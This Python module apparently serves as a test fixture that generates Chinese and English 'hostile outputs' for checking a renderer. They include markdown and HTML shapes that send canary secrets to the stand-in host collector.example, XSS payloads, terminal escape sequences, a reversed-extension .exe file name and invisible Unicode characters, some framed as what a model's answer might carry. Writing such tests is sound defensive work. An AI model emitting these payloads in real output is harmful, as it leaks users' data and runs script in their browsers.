"""Hostile outputs: what a model, a document or a file name may carry to make a page run, load or hide something."""

import itertools

HOST = "collector.example"
FOREIGN = f"http://{HOST}"

# Built from code points, so that nothing invisible stands in this file.
INVISIBLE = "".join(
    chr(point)
    for point in (
        *range(0x09),
        *range(0x0B, 0x20),
        *range(0x7F, 0xA0),
        0xAD,
        *range(0x200B, 0x2010),
        *range(0x202A, 0x202F),
        *range(0x2060, 0x2070),
        0xFEFF,
        0xE0041,
        0xE0042,
        0xE007F,
    )
)
ESCAPES = "\x1b[31mred\x1b[0m \x1b]8;;" + FOREIGN + "/osc\x07link\x1b]8;;\x07"
BIDI = "合同" + chr(0x202E) + "fdp.exe" + chr(0x202C)

SHAPES = (
    "![{word}]({url}/image.png?q={secret})",
    "![{word}][r]\n\n[r]: {url}/reference.png?q={secret}",
    "[{word}]({url}/link?q={secret})",
    "[{word}][l]\n\n[l]: {url}/link?q={secret}",
    "<{url}/auto?q={secret}>",
    "{url}/bare?q={secret}",
    '<img src="{url}/html.png?q={secret}">',
    "<img src=x onerror=\"window.__ran='{secret}'\">",
    "<script>window.__ran='{secret}'</script>",
    "<svg onload=\"window.__ran='{secret}'\"><image href='{url}/svg.png'/></svg>",
    '<iframe src="{url}/frame"></iframe>',
    '<link rel="stylesheet" href="{url}/style.css">',
    "<style>body{{background:url({url}/style.png)}}</style>",
    '<div style="background:url({url}/inline.png)">{word}</div>',
    '<meta http-equiv="refresh" content="0;url={url}/refresh">',
    '<form action="{url}/form"><input name=q value={secret}><button>{word}</button></form>',
    '<video poster="{url}/poster.png"></video><audio src="{url}/audio.mp3" autoplay></audio>',
    "<object data='{url}/object'></object><embed src='{url}/embed'>",
    '<a href="javascript:window.__ran=1">{word}</a>',
    '<base href="{url}/">',
    "</textarea></title></script><img src=x onerror=window.__ran=1>",
    "**bold <img src=x onerror=window.__ran=1>** `code <script>window.__ran=1</script>`",
    "| {word} | ![x]({url}/cell.png) |\n|---|---|\n| <img src=x onerror=window.__ran=1> | [1] |",
    "```html\n<script>window.__ran=1</script>\n```\n![{word}]({url}/after.png)",
    "- ![{word}]({url}/item.png)\n- <svg/onload=window.__ran=1>\n\n1. <img src='{url}/n.png'>",
    "{{{{constructor.constructor('window.__ran=1')()}}}} ${{window.__ran=1}}",
    "[1](javascript:window.__ran=1) [2]({url}/marker) [[3]]({url}) [99]",
    "{invisible}{word}{escapes}{bidi}",
)
WORDS = ("点击查看", "click here", "差旅标准", "see the report", "密码")
LOADS = ("", "&#x200b;", chr(0x200B), " ", "\n\n> ", "## ", "答：")


def outputs(count: int) -> list[str]:
    """Return ``count`` different hostile answers, Chinese and English."""
    grid = itertools.product(LOADS, WORDS, SHAPES)
    made = (
        lead
        + shape.format(
            word=word, url=FOREIGN, secret=f"canary-{number}", invisible=INVISIBLE, escapes=ESCAPES, bidi=BIDI
        )
        + f" ({number})"
        for number, (lead, word, shape) in enumerate(itertools.cycle(grid))
    )
    return list(itertools.islice(made, count))


def hostile_title() -> str:
    """Return a document title that tries markup, control characters and a reversed extension."""
    return f"<img src=x onerror=window.__ran=1>{ESCAPES}{BIDI}<script>window.__ran=1</script>{INVISIBLE}"


def invisible_pattern() -> str:
    """Return the source of a JavaScript character class of what must never reach the page."""
    return "[" + "".join(f"\\u{{{ord(char):x}}}" for char in INVISIBLE) + "]"
